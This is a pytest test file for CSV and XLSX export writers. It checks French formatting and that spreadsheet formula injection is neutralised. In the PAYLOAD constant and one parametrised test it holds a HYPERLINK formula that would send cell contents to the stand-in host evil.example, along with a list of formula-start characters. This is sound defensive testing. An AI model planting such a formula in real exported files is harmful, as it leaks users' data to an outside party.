"""The CSV and XLSX writers: the one place cells are written, formulas neutralised."""

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest

from exports import writers

PAYLOAD = '=HYPERLINK("http://evil.example/steal?d="&A1,"Cliquez")'
HEADER = ["Référence", "Intitulé", "Personnels", "Transmise le"]


def read_csv(data):
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def write_csv(rows, progress=None):
    out = io.BytesIO()
    writers.write_csv(out, HEADER, rows, progress)
    return out.getvalue()


def write_xlsx(rows, progress=None):
    out = io.BytesIO()
    writers.write_xlsx(out, "Demandes d'ANT", HEADER, rows, progress)
    return out.getvalue()


def test_csv_has_a_bom_semicolons_french_dates_and_plain_values():
    data = write_csv([["ANT-2020-00001", "Évaluer", 12, datetime.date(2020, 9, 3)]])
    assert data.startswith("\ufeff".encode())
    assert data.decode("utf-8").splitlines()[1] == "ANT-2020-00001;Évaluer;12;03/09/2020"
    assert read_csv(data) == [HEADER, ["ANT-2020-00001", "Évaluer", "12", "03/09/2020"]]


def test_csv_empty_cells_stay_empty():
    assert read_csv(write_csv([["A", None, 0, None]]))[1] == ["A", "", "0", ""]


def test_csv_formula_payload_comes_out_as_quoted_text():
    rows = read_csv(write_csv([["ANT-1", PAYLOAD, 3, None]]))
    assert rows[1][1] == "'" + PAYLOAD


# OWASP's starts (ASVS 1.2.10), the line feed, and the full-width = + - @.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_every_formula_start_is_quoted(start):
    assert writers.csv_text(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("hidden", ["\x00", "\x0b", "\x1f\x00"])
def test_control_characters_do_not_hide_a_formula_start(hidden):
    assert writers.cell_text(f"{hidden}=1+1") == "'=1+1"
    assert writers.csv_text(f"{hidden}=1+1") == "'=1+1"


@pytest.mark.parametrize("text", ["Collège Jean-Jaurès", "a=b", "", "Projet #2"])
def test_csv_ordinary_text_is_left_as_typed(text):
    assert writers.csv_text(text) == text


def test_csv_numbers_are_not_quoted():
    assert writers.csv_text(-5) == -5


def test_xlsx_formula_payload_is_a_string_cell_quoted_as_in_csv():
    data = write_xlsx([["ANT-1", PAYLOAD, 3, datetime.date(2020, 9, 3)]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cell = sheet["B2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + PAYLOAD
    # Nothing in the sheet is a formula.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert "HYPERLINK" in xml


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_xlsx_every_formula_start_is_a_quoted_string_cell(start):
    text = f'{start}HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx([[text, "", 1, None]]))).active
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == "'" + text


@pytest.mark.parametrize("text", ["#N/A", "#DIV/0!", "Projet #2", "a=b", "33 1 23"])
def test_xlsx_other_text_is_a_string_cell_as_typed(text):
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx([[text, "", 1, None]]))).active
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == text


def test_xlsx_keeps_numbers_and_dates_typed():
    data = write_xlsx([["ANT-1", "Évaluer", 12, datetime.date(2020, 9, 3)]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet[1]] == HEADER
    assert sheet["C2"].value == 12 and sheet["C2"].data_type == "n"
    assert sheet["D2"].value == datetime.datetime(2020, 9, 3)
    assert sheet.title == "Demandes d'ANT"


def test_xlsx_drops_characters_xml_cannot_hold():
    data = write_xlsx([["ANT-1", "Titre\x0b avec tabulation verticale", 1, None]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["B2"].value == "Titre avec tabulation verticale"


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_progress_is_reported_as_rows_go_and_at_the_end(write):
    reported = []
    consumed = []

    def rows():
        for i in range(2500):
            consumed.append(i)
            yield [f"ANT-{i}", "Titre", i, None]

    def progress(done):
        # Rows are taken as they are written, never gathered first.
        assert len(consumed) == done
        reported.append(done)

    write(rows(), progress)
    assert reported == [1000, 2000, 2500]
